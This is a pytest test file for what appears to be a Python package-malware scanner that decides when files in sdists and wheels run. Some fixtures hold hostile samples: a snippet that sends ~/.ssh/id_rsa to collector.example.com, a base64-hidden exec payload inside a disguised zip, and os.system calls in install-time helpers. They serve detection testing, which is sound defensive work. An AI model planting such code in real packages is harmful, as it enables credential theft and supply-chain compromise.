"""When each file of a release runs: the plan every fact's `when` starts from."""

from __future__ import annotations

import pytest

from interlock.analysis.extract import roles
from interlock.analysis.facts import When
from interlock.artifact.model import Artifact, ArtifactKind
from interlock.model.findings import Severity
from tests.builders import findings_of, scan, sdist, wheel, zip_artifact, zip_bytes

BACKEND_PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["_custom_build"]
"""


def role(artifact: Artifact, path: str) -> roles.Role:
    assert path in artifact.members, sorted(artifact.members)
    return roles.role_of(artifact, path, roles.build_backend_paths(artifact))


def test_setup_py_runs_everything_at_install_in_an_sdist() -> None:
    artifact = sdist({"setup.py": "from setuptools import setup\nsetup()\n"})
    assert artifact.kind is ArtifactKind.SDIST
    found = role(artifact, "setup.py")
    assert (found.when, found.everything_runs) == (When.INSTALL, True)


def test_setup_py_in_a_wheel_is_an_ordinary_module() -> None:
    found = role(wheel({"setup.py": "x = 1\n"}), "setup.py")
    assert (found.when, found.everything_runs) == (When.IMPORT, False)


def test_setup_py_below_the_root_of_an_sdist_is_not_the_install_script() -> None:
    found = role(sdist({"setup.py": "", "vendor/other/setup.py": "x = 1\n"}), "vendor/other/setup.py")
    assert found.when is When.IMPORT


def test_pth_in_wheel_purelib_is_a_startup_pth() -> None:
    artifact = wheel({"demo-1.0.data/purelib/x.pth": "import os\n", "demo-1.0.data/platlib/y.pth": "import os\n"})
    assert roles.is_pth(artifact, "demo-1.0.data/purelib/x.pth")
    assert roles.is_pth(artifact, "demo-1.0.data/platlib/y.pth")
    assert roles.install_path(artifact, "demo-1.0.data/purelib/x.pth") == "x.pth"


@pytest.mark.parametrize(
    "path",
    [
        "pkg/x.pth",
        "demo-1.0.data/data/x.pth",
        "demo-1.0.data/purelib/pkg/x.pth",
        "demo-1.0.data/scripts/x.pth",
        "x.pth.txt",
    ],
)
def test_pth_anywhere_but_the_site_packages_root_is_not_processed(path: str) -> None:
    artifact = wheel({path: "import os\n"})
    assert not roles.is_pth(artifact, path)


def test_pth_at_wheel_root_is_processed() -> None:
    assert roles.is_pth(wheel({"x.pth": "import os\n"}), "x.pth")


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py"])
def test_sitecustomize_at_wheel_root_runs_at_every_start(name: str) -> None:
    found = role(wheel({name: "x = 1\n"}), name)
    assert found.when is When.STARTUP


def test_sitecustomize_in_purelib_runs_at_every_start() -> None:
    path = "demo-1.0.data/purelib/sitecustomize.py"
    assert role(wheel({path: "x = 1\n"}), path).when is When.STARTUP


@pytest.mark.parametrize(
    ("artifact_of", "path"),
    [
        (lambda: wheel({"pkg/sitecustomize.py": "x = 1\n"}), "pkg/sitecustomize.py"),
        (lambda: sdist({"sitecustomize.py": "x = 1\n"}), "sitecustomize.py"),
    ],
    ids=["inside-a-package", "sdist-root"],
)
def test_sitecustomize_elsewhere_is_an_ordinary_module(artifact_of: object, path: str) -> None:
    assert role(artifact_of(), path).when is When.IMPORT  # type: ignore[operator]


@pytest.mark.parametrize(
    "path",
    [
        "tests/test_core.py",
        "tests/helpers.py",
        "pkg/tests/util.py",
        "test/x.py",
        "docs/conf.py",
        "doc/x.py",
        "examples/run.py",
        "example/run.py",
        "samples/custom_report.py",
        "pkg/sample/demo.py",
        "benchmarks/b.py",
        "pkg/conftest.py",
        "pkg/test_unit.py",
        "pkg/unit_test.py",
    ],
)
def test_tests_docs_and_examples_are_demoted_to_call_time(path: str) -> None:
    assert role(wheel({path: "x = 1\n"}), path).when is When.CALL


@pytest.mark.parametrize(
    "path",
    [
        "vendored-meson/meson/manual tests/4 standalone binaries/build.py",
        "pkg/unittests/x.py",
        "pkg/integration_tests/x.py",
    ],
)
def test_directories_named_for_tests_are_demoted_too(path: str) -> None:
    # numpy's sdist vendors meson, whose `manual tests/` download and run things by design.
    assert role(sdist({"setup.py": "", path: "x = 1\n"}), path).when is When.CALL


@pytest.mark.parametrize(
    "path",
    [
        "tools/gencontrollerdb.py",
        "scripts/screenshots/image01.py",
        "ci/upload.py",
        ".github/release.py",
        "ladybug-source/scripts/setup-extension-repo.py",
    ],
)
def test_maintainer_scripts_at_the_root_of_an_sdist_run_when_called(path: str) -> None:
    # pyglet's sdist: tools/gencontrollerdb.py fetches a database from the network at its top level.
    assert role(sdist({"setup.py": "", path: "x = 1\n"}), path).when is When.CALL


def test_a_package_named_like_a_helper_directory_still_runs_at_import() -> None:
    artifact = sdist({"setup.py": "", "tools/__init__.py": "", "tools/net.py": "x = 1\n"})
    assert role(artifact, "tools/net.py").when is When.IMPORT


def test_helper_directories_of_a_wheel_are_installed_and_run_at_import() -> None:
    assert role(wheel({"tools/net.py": "x = 1\n"}), "tools/net.py").when is When.IMPORT


def test_maintainer_script_that_setup_py_imports_runs_at_install() -> None:
    result = scan(
        sdist(
            {
                "setup.py": "from setuptools import setup\nfrom tools import fetch\nsetup()\n",
                "tools/fetch.py": "import urllib.request\n"
                "urllib.request.urlopen('https://example.org/db.txt').read()\n",
            }
        )
    )
    assert [(f.path, f.line, f.when) for f in findings_of(result, "network-access")] == [
        ("tools/fetch.py", 2, "install")
    ]


@pytest.mark.parametrize("path", ["pkg/testing.py", "pkg/contest.py", "pkg/attest/x.py", "pkg/documents/x.py"])
def test_names_merely_resembling_tests_are_not_demoted(path: str) -> None:
    assert role(wheel({path: "x = 1\n"}), path).when is When.IMPORT


def test_wheel_scripts_run_when_called() -> None:
    path = "demo-1.0.data/scripts/tool.py"
    assert role(wheel({path: "x = 1\n"}), path).when is When.CALL


def test_members_of_nested_archives_never_run() -> None:
    artifact = zip_artifact(
        [("pkg/__init__.py", b""), ("pkg/vendor.zip", zip_bytes([("setup.py", b"import os\nos.system('id')\n")]))]
    )
    assert "pkg/vendor.zip!/setup.py" in artifact.members
    assert role(artifact, "pkg/vendor.zip!/setup.py").when is When.NEVER
    assert findings_of(scan(artifact), "process-spawn") == []


def test_members_of_a_disguised_zip_are_judged_as_call_time_code() -> None:
    payload = b"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"
    artifact = zip_artifact([("pkg/__init__.py", b""), ("pkg/_types.typed", zip_bytes([("hook.py", payload)]))])
    assert role(artifact, "pkg/_types.typed!/hook.py").when is When.CALL
    assert [(f.path, f.when) for f in findings_of(scan(artifact), "decoded-exec")] == [
        ("pkg/_types.typed!/hook.py", "call")
    ]


def test_in_tree_build_backend_runs_everything_at_install() -> None:
    artifact = sdist(
        {"pyproject.toml": BACKEND_PYPROJECT, "_custom_build/backend.py": "def build_wheel(*a):\n    pass\n"}
    )
    assert roles.build_backend_paths(artifact) == {"_custom_build/backend.py"}
    found = role(artifact, "_custom_build/backend.py")
    assert (found.when, found.everything_runs) == (When.INSTALL, True)


def test_in_tree_build_backend_package_and_dotted_module() -> None:
    pyproject = BACKEND_PYPROJECT.replace('"backend"', '"tools.backend:api"').replace('["_custom_build"]', '["./"]')
    artifact = sdist({"pyproject.toml": pyproject, "tools/backend/__init__.py": "api = None\n"})
    assert roles.build_backend_paths(artifact) == {"tools/backend/__init__.py"}


@pytest.mark.parametrize(
    "pyproject",
    [
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        '[build-system]\nbuild-backend = "backend"\nbackend-path = "_custom_build"\n',
        "[build-system\nnot toml",
        '[build-system]\nbuild-backend = "missing"\nbackend-path = ["_custom_build"]\n',
    ],
    ids=["no-backend-path", "backend-path-not-a-list", "invalid-toml", "backend-not-shipped"],
)
def test_no_in_tree_backend(pyproject: str) -> None:
    artifact = sdist({"pyproject.toml": pyproject, "_custom_build/backend.py": "x = 1\n"})
    assert roles.build_backend_paths(artifact) == set()
    assert role(artifact, "_custom_build/backend.py").when is When.IMPORT


def test_in_tree_backend_code_is_judged_as_install_code() -> None:
    result = scan(
        sdist(
            {
                "pyproject.toml": BACKEND_PYPROJECT,
                "_custom_build/backend.py": "import os\n\ndef build_wheel(*args):\n    os.system('whoami')\n",
            }
        )
    )
    assert [(f.severity, f.line, f.when) for f in findings_of(result, "process-spawn")] == [
        (Severity.HIGH, 4, "install")
    ]


def test_module_file_finds_what_import_would_load() -> None:
    artifact = wheel({"hook.py": "", "pkg/__init__.py": "", "demo-1.0.data/purelib/other.py": ""})
    assert roles.module_file(artifact, "hook") == "hook.py"
    assert roles.module_file(artifact, "pkg") == "pkg/__init__.py"
    assert roles.module_file(artifact, "other") == "demo-1.0.data/purelib/other.py"
    assert roles.module_file(artifact, "missing") is None


def test_local_module_imported_by_setup_py_runs_at_install() -> None:
    result = scan(
        sdist(
            {
                "setup.py": "import helpers\nfrom setuptools import setup\nsetup()\n",
                "helpers.py": "import os\nos.system('whoami')\n",
            }
        )
    )
    assert [(f.path, f.severity, f.when) for f in findings_of(result, "process-spawn")] == [
        ("helpers.py", Severity.HIGH, "install")
    ]


def test_local_function_called_by_setup_py_runs_at_install() -> None:
    result = scan(
        sdist(
            {
                "setup.py": "import helpers\nfrom setuptools import setup\nhelpers.fetch()\nsetup()\n",
                "helpers.py": "import os\n\ndef fetch():\n    os.system('whoami')\n\ndef unused():\n"
                "    os.system('id')\n",
            }
        )
    )
    assert [(f.line, f.when) for f in findings_of(result, "process-spawn") if f.path == "helpers.py"] == [
        (4, "install")
    ]


def test_script_setup_py_runs_with_python_runs_at_install() -> None:
    result = scan(
        sdist(
            {
                "setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
                "subprocess.check_call([sys.executable, 'tools/prepare.py'])\nsetup()\n",
                "tools/prepare.py": "import os\n\ndef main():\n    os.system('whoami')\n",
            }
        )
    )
    assert [(f.line, f.when) for f in findings_of(result, "process-spawn") if f.path == "tools/prepare.py"] == [
        (4, "install")
    ]


STEALER = (
    "import os\nimport requests\n"
    "requests.post('https://collector.example.com', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
)


def test_import_time_stealer_in_a_package_module_is_malicious() -> None:
    result = scan(wheel({"pkg/__init__.py": "from pkg import helpers\n", "pkg/helpers.py": STEALER}))
    assert [(f.path, f.line, f.when) for f in findings_of(result, "credential-exfiltration")] == [
        ("pkg/helpers.py", 3, "import")
    ]


def test_demoted_module_imported_by_package_code_runs_at_import() -> None:
    result = scan(
        wheel(
            {
                "pkg/__init__.py": "from pkg.tests import helpers\n",
                "pkg/tests/__init__.py": "",
                "pkg/tests/helpers.py": STEALER,
            }
        )
    )
    assert [(f.path, f.line, f.when) for f in findings_of(result, "credential-exfiltration")] == [
        ("pkg/tests/helpers.py", 3, "import")
    ]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("pkg/tests/test_server.py", True),
        ("tests/helpers.py", True),
        ("pkg/conftest.py", True),
        ("examples/run.py", False),
        ("docs/conf.py", False),
        ("src/pyobf/example/encryptor.py", False),
    ],
)
def test_a_test_suite_is_told_from_examples_and_documentation(path: str, expected: bool) -> None:
    from interlock.analysis.extract.roles import is_test

    assert is_test(path) is expected
